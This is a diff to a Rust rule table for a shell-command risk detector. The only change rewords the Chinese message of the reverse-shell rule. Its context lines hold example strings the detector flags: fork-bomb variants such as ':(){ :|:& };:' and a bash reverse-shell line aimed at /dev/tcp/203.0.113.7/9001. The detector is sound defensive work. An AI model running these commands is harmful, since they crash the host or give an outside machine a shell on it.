@@ -28,7 +28,7 @@ rules! {
     FORK_BOMB = Rule::new("fork-bomb", EffectKind::System, Risk::Critical, "is a fork bomb: {} calls itself without end", "是 fork 炸弹：{} 无限调用自身")
         .absurd().priority(Priority::P0)
         .examples(&[":(){ :|:& };:", ":() { :|:& };:", "b(){ b|b& };b"], &["f() { echo hi; }; f"]);
-    REVERSE_SHELL = Rule::new("reverse-shell", EffectKind::SecretSend, Risk::Critical, "gives another machine a shell on this one: {}", "让另一台机器得到本机的 shell：{}")
+    REVERSE_SHELL = Rule::new("reverse-shell", EffectKind::SecretSend, Risk::Critical, "gives another machine a shell on this one: {}", "让另一台机器获得本机的 shell（反弹 shell）：{}")
         .absurd().priority(Priority::P0)
         .examples(&["bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"], &["bash -c 'echo hi'"]);
     REMOTE_DELETE = Rule::new("remote-delete", EffectKind::Delete, Risk::High, "deletes {} on another machine", "删除另一台机器上的 {}")
